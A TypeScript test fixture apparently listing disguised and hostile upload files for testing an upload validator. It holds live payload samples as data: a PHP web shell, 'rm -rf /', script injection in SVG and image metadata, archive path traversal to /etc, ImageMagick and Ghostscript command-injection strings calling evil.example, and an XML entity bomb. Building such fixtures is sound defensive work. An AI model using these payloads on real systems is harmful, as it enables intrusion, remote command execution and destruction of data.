import { gzipSync } from "node:zlib";
import sharp from "sharp";
import { chunk, compound, doc, docx, pdf, picture, storedPicture, zip } from "./files.js";

// Files that are something else than they say, or something besides.

export type Make = () => Buffer | Promise<Buffer>;
/** What it is, by which name and as which type it is sent, and how it is made. */
export type HostileFile = readonly [what: string, name: string, make: Make, contentType?: string];

const text = (content: string): Buffer => Buffer.from(content);
const png = () => picture("png");
const jpeg = () => picture("jpeg");
const gif = () => picture("gif");
const exe = () => Buffer.concat([Buffer.from("MZ\u0090\u0000\u0003", "latin1"), Buffer.alloc(2_000, 0x90)]);
const svg = () => text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
const html = () => text("\n <!doctype html><html><script>alert(1)</script></html>");
const appended = (make: Make, more: Make) => async () => Buffer.concat([await make(), await more()]);
const archive = () => zip({ "a.txt": "a" });
const PAGE = text("<html><body onload=alert(1)><script>alert(1)</script>");
const sized = (length: number) => Buffer.from([length >> 8, length & 0xff]);
/** A comment in a photograph. */
const comment = (words: Buffer) => Buffer.concat([Buffer.from([0xff, 0xfe]), sized(words.length + 2), words]);
/** A photograph with something before all that it has. */
const photograph = (before: Make) =>
  appended(
    async () => Buffer.concat([Buffer.from([0xff, 0xd8]), await before()]),
    async () => (await jpeg()).subarray(2),
  );
/** A picture with such a note. */
const noted = async (note: Buffer) => {
  const bytes = await png();
  return Buffer.concat([bytes.subarray(0, 33), chunk("tEXt", note), bytes.subarray(33)]);
};
const ZIP_END_BYTES = 22;
/** An archive with other counts at a place of its end record. */
const toEnd = (archived: Buffer, at: number, byte: number) =>
  Buffer.from(archived).fill(byte, archived.length - ZIP_END_BYTES + at, archived.length - ZIP_END_BYTES + at + 4);
const manyFiles = (count: number, nameLength: number) =>
  Object.fromEntries(Array.from({ length: count }, (_, at) => [`word/${at}${"x".repeat(nameLength)}`, ""]));
const beforeEnd = (archived: Buffer, more: Buffer) =>
  Buffer.concat([archived.subarray(0, -ZIP_END_BYTES), more, archived.subarray(-ZIP_END_BYTES)]);

export const hostileFiles: readonly HostileFile[] = [
  ["a program", "setup.exe", exe],
  ["a page", "index.html", html],
  ["a drawing that can run scripts", "a.svg", svg, "image/svg+xml"],
  ["no extension", "README", () => text("words")],
  ["an extension that objects have by themselves", "a.constructor", () => text("words")],
  ["a program called .png", "a.png", exe, "image/png"],
  ["a program called .txt", "a.txt", exe, "text/plain"],
  ["a program called .doc", "a.doc", exe],
  ["a drawing called .png", "a.png", svg, "image/png"],
  ["a drawing called .txt", "a.txt", svg, "text/plain"],
  ["a page called .txt", "a.txt", html, "text/plain"],
  ["a page called .jpg", "a.jpg", html],
  ["XML called .txt", "a.txt", () => text('<?xml version="1.0"?><a/>')],
  ["a PDF called .txt", "a.txt", pdf],
  ["a text that is not UTF-8", "a.txt", () => Buffer.from("gr\u00fc\u00dfe", "latin1")],
  ["a text with NUL", "a.txt", () => text("a\0b")],
  ["a text that breaks off in a character", "a.txt", () => text("ü").subarray(0, 1)],
  ["one kind of picture called as another", "a.png", jpeg],
  ["a picture called as one of the kind that does not say where it ends", "a.jpg", png],
  ["another type declared", "a.png", png, "image/jpeg"],
  ["a page declared", "a.txt", () => text("words"), "text/html"],
  ["a picture that is also a page", "a.gif", appended(gif, () => text("<script>alert(1)</script>;"))],
  [
    "a page in the comment of a picture",
    "a.jpg",
    photograph(() => Buffer.from("fffe001a3c68746d6c3e3c7363726970743e616c6572742831293c2f", "hex")),
  ],
  ["a tag alone where a picture begins", "a.jpg", photograph(() => Buffer.from("fffe00073c68746d6c", "hex"))],
  [
    "a page in the comment of a picture, far behind its beginning",
    "a.jpg",
    photograph(() => Buffer.concat([comment(Buffer.alloc(60_000)), comment(PAGE)])),
  ],
  ["a photograph with a page behind it", "a.jpg", appended(jpeg, () => Buffer.concat([Buffer.alloc(90_000), PAGE]))],
  [
    "a photograph with a script of the server behind it",
    "a.jpg",
    appended(jpeg, () => text("<?php system($_GET[0]);")),
  ],
  ["a page in the pixels of a picture", "a.png", () => storedPicture(300, PAGE)],
  [
    "a page in what a WebP says of itself",
    "a.webp",
    async () =>
      sharp(await png())
        .withXmp(`<x:xmpmeta xmlns:x="adobe:ns:meta/">${String(PAGE)}</x:xmpmeta>`)
        .webp()
        .toBuffer(),
  ],
  ["a picture with an archive behind it", "a.png", appended(png, archive)],
  ["a photograph with an archive behind it", "a.jpg", appended(jpeg, archive)],
  ["a picture with something behind it", "a.png", appended(png, () => text("hello"))],
  ["a moving picture with something behind it", "a.gif", appended(gif, () => text("hello"))],
  [
    "a WebP with something behind it",
    "a.webp",
    appended(
      () => picture("webp"),
      () => text("hello"),
    ),
  ],
  ["a PDF with something before it", "a.pdf", appended(() => text("GIF89a"), pdf)],
  ["a PDF with an archive behind it", "a.pdf", appended(pdf, archive)],
  ["a PDF that breaks off", "a.pdf", () => pdf().subarray(0, 40)],
  ["an archive called .docx", "a.docx", archive],
  ["a document without words", "a.docx", () => zip({ "[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<a/>" })],
  ["a document with macros", "a.docx", () => docx({ "word/vbaProject.bin": "x" })],
  ["a document that leads out of its folder", "a.docx", () => docx({ "../../etc/passwd": "x" })],
  ["a document with something before it", "a.docx", appended(() => text("#!/bin/sh\n"), docx)],
  ["a document with something behind it", "a.docx", appended(docx, () => text("more"))],
  ["a document whose directory lies", "a.docx", () => toEnd(docx(), 10, 9)],
  ["an installer called .doc", "a.doc", () => compound("SummaryInformation", "Binary.Icon")],
  ["a compound file that breaks off", "a.doc", () => doc().subarray(0, 600)],
  ["a script of a shell", "a.sh", () => text("#!/bin/sh\nrm -rf /\n")],
  ["a script called .pdf", "a.pdf", () => text("#!/bin/sh\nrm -rf /\n")],
  ["a script of the server called .jpg", "a.jpg", () => text("<?php system($_GET[0]);")],
  ["a page by its second extension", "a.png.html", png],
  ["a page with a space behind its extension", "a.html ", html],
  ["a drawing that is packed", "a.svgz", svg],
  ["a drawing called .gif", "a.gif", svg],
  ["a drawing called .webp", "a.webp", svg],
  ["a drawing called .pdf", "a.pdf", svg],
  ["a page called .pdf", "a.pdf", html],
  ["a page called .docx", "a.docx", html],
  ["a program called .pdf", "a.pdf", exe],
  ["a program called .docx", "a.docx", exe],
  ["a program of Linux called .png", "a.png", () => Buffer.concat([text("\u007fELF"), Buffer.alloc(500)])],
  ["a feed called .txt", "a.txt", () => text('\ufeff  <?xml version="1.0"?><rss/>')],
  ["a text of two bytes a sign", "a.txt", () => Buffer.from("\ufeffwords", "utf16le")],
  ["a PDF called .docx", "a.docx", pdf],
  ["a PDF called .png", "a.png", pdf],
  ["a document called .doc", "a.doc", docx],
  ["an old document called .docx", "a.docx", doc],
  [
    "a sheet called .docx",
    "a.docx",
    () => zip({ "[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<a/>", "word/a": "" }),
  ],
  ["a program in an archive called .docx", "a.docx", () => zip({ "a.exe": "MZ" })],
  ["a picture that says it is text", "a.png", png, "text/html"],
  ["an icon", "a.ico", () => Buffer.from("00000100", "hex")],
  ["a page of styles", "a.css", () => text("body { background: url(//evil.example) }")],
  ["a library called .jpg", "a.jpg", () => Buffer.concat([Buffer.from("cafebabe", "hex"), Buffer.alloc(500)])],
  ["an archive called .txt", "a.txt", archive],
  ["a picture of one kind that goes on as another", "a.gif", appended(gif, png)],
  ["a film called .gif", "a.gif", () => Buffer.concat([Buffer.alloc(4), text("ftypisom"), Buffer.alloc(500)])],
  ["a sound called .webp", "a.webp", () => text("RIFF\u0024\u0000\u0000\u0000WAVEfmt ")],
  ["a picture that breaks off", "a.png", async () => (await png()).subarray(0, 200)],
  [
    "a photograph that breaks off",
    "a.jpg",
    async () => (await picture("jpeg", { width: 400, height: 400 })).subarray(0, 3_000),
  ],
  ["a picture of nothing but its first bytes", "a.png", () => Buffer.from("89504e470d0a1a0a", "hex")],
  ["a picture with a hole", "a.png", async () => Buffer.from(await png()).fill(0, 60, 400)],
  ["a page in the words that a picture carries", "a.png", () => noted(Buffer.concat([text("Comment\u0000"), PAGE]))],
  ["a photograph that is also a PDF", "a.jpg", photograph(() => comment(pdf()))],
  ["a picture without a size", "a.png", async () => Buffer.from(await png()).fill(0, 16, 24)],
  [
    "a TIFF called .jpg",
    "a.jpg",
    async () =>
      sharp(await png())
        .tiff()
        .toBuffer(),
  ],
  [
    "a picture of a newer kind called .jpg",
    "a.jpg",
    async () =>
      sharp(await png())
        .avif()
        .toBuffer(),
  ],
  [
    "a drawing by commands called .png",
    "a.png",
    () => text("push graphic-context\nfill 'url(https://evil.example/|id)'\npop"),
  ],
  ["a page to print called .png", "a.png", () => text("%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (w) file\n")],
  ["a list of films called .gif", "a.gif", () => text("#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n")],
  ["a film that runs called .jpg", "a.jpg", () => Buffer.concat([text("CWS\u000a"), Buffer.alloc(500, 7)])],
  ["a PDF with a page far behind it", "a.pdf", appended(pdf, () => Buffer.concat([PAGE, Buffer.alloc(2_000, " ")]))],
  ["a document that leads to the root of a disk", "a.docx", () => docx({ "/etc/cron.d/x": "x" })],
  ["a document that leads to another disk", "a.docx", () => docx({ "C:\\Windows\\x": "x" })],
  ["a document that leads out of its folder as Windows does", "a.docx", () => docx({ "word\\..\\..\\x": "x" })],
  ["a document with something before its end", "a.docx", () => beforeEnd(docx(), text("more"))],
  ["a document that begins as one of several parts", "a.docx", () => Buffer.from(docx()).fill("PK\u0007\u0008", 0, 4)],
  ["a document of more files than a plain end can count", "a.docx", () => toEnd(docx(), 8, 0xff)],
  ["a document of ten thousand files", "a.docx", () => docx(manyFiles(10_000, 0))],
  ["a document with a directory of megabytes", "a.docx", () => docx(manyFiles(75, 60_000))],
  ["a document with macros by its name", "a.docm", docx],
  [
    "an archive of another kind called .docx",
    "a.docx",
    () => Buffer.concat([text("Rar!\u001a\u0007\u0001\u0000"), Buffer.alloc(500)]),
  ],
  [
    "a page with its pictures called .doc",
    "a.doc",
    () => text("MIME-Version: 1.0\nContent-Type: multipart/related\n\n<html>"),
  ],
  ["a rich text called .doc", "a.doc", () => text("{\\rtf1{\\object\\objocx}}")],
  ["a rich text called .txt", "a.txt", () => text("{\\rtf1{\\object\\objocx}}")],
  ["a page to print called .txt", "a.txt", () => text("%!PS\n(%pipe%id) (w) file\n")],
  ["a page behind a comment", "a.txt", () => text("<!-- words --><script>alert(1)</script>")],
  [
    "XML that grows without end",
    "a.txt",
    () => text('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "words"><!ENTITY c "&b;&b;">]><a>&c;</a>'),
  ],
  ["packed text", "a.txt", () => gzipSync("words")],
  ["a program whose name is shown backwards", "a\u202egnp.exe", exe],
  ["a page in a stream of its own", "a.png:a.html", png],
  ["a program with a dot behind its extension", "a.exe.", exe],
  ["the settings of a server", ".htaccess", () => text("AddType application/x-httpd-php .jpg")],
  ["a page by its other extension", "a.xhtml", html],
  ["a program of the shell of Windows", "a.hta", html],
  ["a link of Windows", "a.url", () => text("[InternetShortcut]\nURL=file://evil.example/a.exe\n")],
  ["a script of the server by its other extension", "a.phtml", () => text("<?php system($_GET[0]);")],
];
